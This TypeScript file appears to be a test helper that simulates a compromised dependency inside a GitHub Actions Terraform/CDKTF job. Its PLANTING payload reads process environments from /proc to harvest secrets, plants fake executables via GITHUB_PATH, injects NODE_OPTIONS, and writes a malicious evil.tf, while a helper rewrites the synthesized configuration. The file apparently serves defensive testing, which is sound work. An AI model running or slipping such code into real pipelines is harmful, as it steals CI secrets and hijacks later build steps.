/** A change of a synthesized configuration. */
export interface Forgery {
  readonly place: readonly (string | number)[];
  readonly value: unknown;
}

/** Returns a statement that changes the configuration in the variable `json`. */
function statementOf({ place, value }: Forgery): string {
  return `json${place.map((step) => `[${JSON.stringify(step)}]`).join("")} = ${JSON.stringify(value)};`;
}

/** Returns code of a compromised dependency that changes the configuration after its synthesis. */
export function rewriting(forgery: Forgery): string {
  return `
const { readFileSync, writeFileSync } = await import("node:fs");
const json = JSON.parse(readFileSync("cdktf.out/stacks/quickstart/cdk.tf.json", "utf8"));
${statementOf(forgery)}
writeFileSync("cdktf.out/stacks/quickstart/cdk.tf.json", JSON.stringify(json));
`;
}

/** Returns a configuration with a change. */
export function forged(configuration: string, forgery: Forgery): string {
  const json = JSON.parse(configuration) as object;
  new Function("json", statementOf(forgery))(json);
  return JSON.stringify(json);
}

/**
 * Code of a compromised dependency. It collects everything that a process of the job can read, changes programs that
 * later steps of the same machine start, and places files next to the stack.
 */
export const PLANTING = `
const { appendFileSync, chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } = await import("node:fs");
const machine = process.cwd() + "/..";
const environments = [process.pid, process.ppid].map((id) => readFileSync("/proc/" + id + "/environ", "latin1"));
writeFileSync(machine + "/loot", environments.join("\\n"));
mkdirSync(machine + "/planted");
for (const name of ["terraform", "cdk-clickstack", "node", "npm", "sha256sum"]) {
  writeFileSync(machine + "/planted/" + name, "#!/bin/sh\\nenv > " + machine + "/attacked\\n");
  chmodSync(machine + "/planted/" + name, 0o755);
}
appendFileSync(process.env.GITHUB_PATH ?? "", machine + "/planted\\n");
appendFileSync(process.env.GITHUB_ENV ?? "", "NODE_OPTIONS=--require=" + machine + "/planted/node\\n");
writeFileSync(process.env.HOME + "/.terraformrc", "provider_installation {}");
const stackFolder = "cdktf.out/stacks/quickstart";
writeFileSync(stackFolder + "/evil.tf", 'resource "terraform_data" "x" {\\n  provisioner "local-exec" { command = "env > ' + machine + '/attacked" }\\n}\\n');
writeFileSync(stackFolder + "/.terraform.lock.hcl", "");
mkdirSync(stackFolder + "/.terraform/providers", { recursive: true });
const plugin = stackFolder + "/terraform.d/plugins/registry.terraform.io/cdk-clickstack/clickstack";
if (!existsSync(plugin)) throw new Error("The program did not place the provider.");
writeFileSync(plugin + "/planted", "");
`;
